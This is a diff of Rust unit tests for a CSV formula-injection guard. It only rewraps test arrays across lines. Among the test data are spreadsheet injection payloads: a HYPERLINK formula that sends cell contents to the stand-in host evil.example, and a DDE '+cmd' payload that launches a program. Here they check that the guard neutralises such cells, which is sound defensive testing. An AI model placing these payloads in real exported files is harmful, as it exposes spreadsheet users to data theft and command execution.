@@ -257,14 +257,26 @@ mod tests {
             assert!(needs_quote(raw), "{raw}");
             assert!(format!("'{raw}").starts_with(want));
         }
-        for ok in ["-0.500000", "+3", "1e-6", "-1.5E+3", "Kyiv", "'quoted'", "", "a=b", "- "] {
+        for ok in [
+            "-0.500000",
+            "+3",
+            "1e-6",
+            "-1.5E+3",
+            "Kyiv",
+            "'quoted'",
+            "",
+            "a=b",
+            "- ",
+        ] {
             assert_eq!(needs_quote(ok), ok == "- ", "{ok}");
         }
     }
 
     #[test]
     fn restore_undoes_neutralise_exactly() {
-        for s in ["=1+1", "'=1+1", "''=x", "'x", "x", "-3", "-x", "'", "''", "@", "'@", "\t", "=", "'-"] {
+        for s in [
+            "=1+1", "'=1+1", "''=x", "'x", "x", "-3", "-x", "'", "''", "@", "'@", "\t", "=", "'-",
+        ] {
             let w = if needs_quote(s) { format!("'{s}") } else { s.to_string() };
             assert_eq!(restore(&w), s, "{s:?} written as {w:?}");
         }
@@ -282,7 +294,11 @@ mod tests {
     fn the_guard_neutralises_cells_in_csv_bytes_and_reading_restores_them() {
         let rows = vec![
             vec!["id", "title", "n"],
-            vec!["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-0.250000"],
+            vec![
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "+cmd|' /C calc'!A0",
+                "-0.250000",
+            ],
             vec!["a,b", "\tTab", "-x"],
             vec!["'=x", "plain \"quoted\" text", ""],
             vec!["multi\nline", "=a\nb", "@"],
